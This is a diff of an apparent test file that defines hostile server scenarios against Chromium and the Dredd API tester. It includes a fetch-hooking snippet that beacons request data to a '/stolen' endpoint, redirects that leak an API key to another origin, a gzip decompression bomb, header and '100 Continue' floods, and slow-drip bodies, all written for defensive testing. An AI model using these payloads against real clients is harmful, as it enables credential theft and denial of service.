@@ -1,42 +1,43 @@
-import { anything } from '../fault-kit/conditions.ts';
-import { changeResponse } from '../fault-kit/responses.ts';
+import { on } from '../fault-kit/on.ts';
 import {
   ANY_VERDICT,
   API,
   answers,
   at,
   BOMB,
-  bytes,
   choose,
+  continueStorm,
+  dripping,
   drips,
   endless,
   forAgent,
   head,
+  headerFlood,
   holds,
   hostileTable,
   json,
   keyOf,
+  leadsElsewhere,
   over,
   PERSON,
-  pours,
+  packed,
   redirects,
   resets,
   type Scene,
   type Serve,
   type Stage,
   sends,
+  status,
   withHeaders,
 } from './kit.ts';
 
-const JSON_LINE = 'content-type: application/json';
-
 /** What Chromium is answered; every other client meets the reference. */
-function toChromium(serve: Serve, more: Partial<Scene> = {}): Scene {
+function toChromium(serve: Serve, more: Pick<Scene, 'elsewhere'> = {}): Scene {
   return { ...driven('browser', '--no-dredd'), serves: forAgent(/Chrome/, serve), ...more };
 }
 
-function toDredd(serve: Serve, more: Partial<Scene> = {}): Scene {
-  return { ...driven('dredd', '--no-browser'), serves: forAgent(/dredd/i, serve), ...more };
+function toDredd(serve: Serve): Scene {
+  return { ...driven('dredd', '--no-browser'), serves: forAgent(/dredd/i, serve) };
 }
 
 function salesToDredd(body: () => string): Scene {
@@ -66,6 +67,8 @@ function me(serve: Serve): Serve {
   return choose(({ url = '' }) => url === `${API}/me`, serve);
 }
 
+const meElsewhere: Serve = redirects(({ elsewhere }) => `${elsewhere}/me`, 307);
+
 /** Sends what is asked through fetch in a window to its own origin. */
 const STEAL = `function steal(w) { try { const real = w.fetch; if (real.isHooked) return; w.fetch = (u, o) => { navigator.sendBeacon('/stolen', JSON.stringify(o)); return real(u, o); }; w.fetch.isHooked = true; } catch {} }`;
 
@@ -86,19 +89,14 @@ export const browserRows = hostileTable`
   0,1,3 browser-sent-to-a-thief: The description leads to a page that hooks fetch and opens a popup
     ${toChromium(document(redirects(({ elsewhere }) => `${elsewhere}/thief`)), { elsewhere: thief })}
   0,1,3 browser-sent-away-with-the-key: The answer to a request with the key leads to another origin
-    ${toChromium(me(redirects(({ elsewhere }) => `${elsewhere}/me`, 307)))}
+    ${toChromium(me(meElsewhere))}
   0,1,3 browser-preflight-sent-away: The preflight leads to another origin
-    ${toChromium(
-      choose(
-        ({ method }) => method === 'OPTIONS',
-        redirects(({ elsewhere }) => `${elsewhere}/me`, 307),
-      ),
-    )}
+    ${toChromium(choose(({ method }) => method === 'OPTIONS', meElsewhere))}
   0,1,3 browser-endless-download: The description is a file to save that has no end, and /me is slow
     ${toChromium((stage) => {
       const [file, slow] = [
         document(endless('application/octet-stream', '', ['content-disposition: attachment; filename=x']))(stage),
-        me(sends(head([JSON_LINE]), drips(1000)))(stage),
+        me(dripping)(stage),
       ];
       return (request, response) => (request.url?.endsWith('/me') ? slow : file)(request, response);
     })}
@@ -153,8 +151,7 @@ export const browserRows = hostileTable`
     )}
   0,1,3 browser-cookies: A thousand cookies with every answer, one with the key
     ${toChromium(withHeaders((stage) => ({ 'set-cookie': [`key=${keyOf(stage)}`, `${keyOf(stage)}=1`, ...Array.from({ length: 998 }, (_, index) => `c${index}=${'v'.repeat(20)}; Max-Age=9999999`)] })))}
-  0,1,3 browser-status-999: Chromium is answered with 999
-    ${toChromium(bytes(`${head([JSON_LINE, 'content-length: 2'], '999 X')}{}`))}
+  0,1,3 browser-status-999: Chromium is answered with 999 ${toChromium(status('999 X'))}
   0,1,3 browser-resets: Every connection of Chromium is reset ${toChromium(resets)}
   0,1,3 browser-refresh-headers: Headers lead on, and name other hosts for later
     ${toChromium(withHeaders(({ elsewhere }) => ({ refresh: `0; url=${elsewhere}/refreshed`, link: `<${elsewhere}/style.css>; rel=preload; as=style`, 'alt-svc': `h2="${new URL(elsewhere).host}"` })))}
@@ -163,18 +160,16 @@ export const browserRows = hostileTable`
 /** Deployments that are hostile to Dredd alone. */
 export const dreddRows = hostileTable`
   1,3 dredd-endless-body: Every body for Dredd goes on for ever ${toDredd(endless())}
-  1,3 dredd-bomb: Every body is half a gigabyte, packed ${toDredd(answers(200, { 'content-encoding': 'gzip' }, BOMB))}
-  1,3 dredd-slow-body: Every body comes at one byte a second ${toDredd(sends(head([JSON_LINE]), drips(1000)), {})}
+  1,3 dredd-bomb: Every body is half a gigabyte, packed ${toDredd(packed('gzip', BOMB))}
+  1,3 dredd-slow-body: Every body comes at one byte a second ${toDredd(dripping)}
   1,3 dredd-slow-header: A header that comes at one byte a second, and has no end
     ${toDredd(sends('HTTP/1.1 200 OK\r\nx-slow: ', drips(1000)))}
   1,3 dredd-redirect: Every request of Dredd is redirected to another origin, with the key in the address
-    ${toDredd(redirects((stage, { url }) => `${stage.elsewhere}${url}?key=${keyOf(stage)}`, 307))}
-  1,3 dredd-header-flood: Headers without an end
-    ${toDredd(sends('HTTP/1.1 200 OK\r\n', pours(Buffer.from('x-flood: 1\r\n'.repeat(5000)))))}
-  1,3 dredd-status-099: Every status is 099 ${toDredd(bytes(`${head([JSON_LINE, 'content-length: 2'], '099 X')}{}`))}
+    ${toDredd(leadsElsewhere(307, (stage) => `?key=${keyOf(stage)}`))}
+  1,3 dredd-header-flood: Headers without an end ${toDredd(headerFlood)}
+  1,3 dredd-status-099: Every status is 099 ${toDredd(status('099 X'))}
   1,3 dredd-resets: Every connection is reset ${toDredd(resets)}
-  1,3 dredd-continue-storm: 100 Continue for ever
-    ${toDredd(sends('', pours(Buffer.from('HTTP/1.1 100 Continue\r\n\r\n'.repeat(2000)))), {})}
+  1,3 dredd-continue-storm: 100 Continue for ever ${toDredd(continueStorm)}
   1,3 dredd-deep-body: Every body is a million lists within each other
     ${toDredd(answers(200, {}, `{"data":${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}}`))}
   1,3 dredd-wrong-records: The list of sales has fifteen million wrong records
@@ -185,7 +180,7 @@ export const dreddRows = hostileTable`
   1,3 dredd-echo: Every body and header repeats the key and a customer
     ${toDredd((stage) =>
       over(
-        changeResponse(anything, (response, { request }) => ({
+        on.anything.changeResponse((response, { request }) => ({
           ...response,
           headers: { ...response.headers, 'x-key': keyOf(stage) },
           body: JSON.stringify({
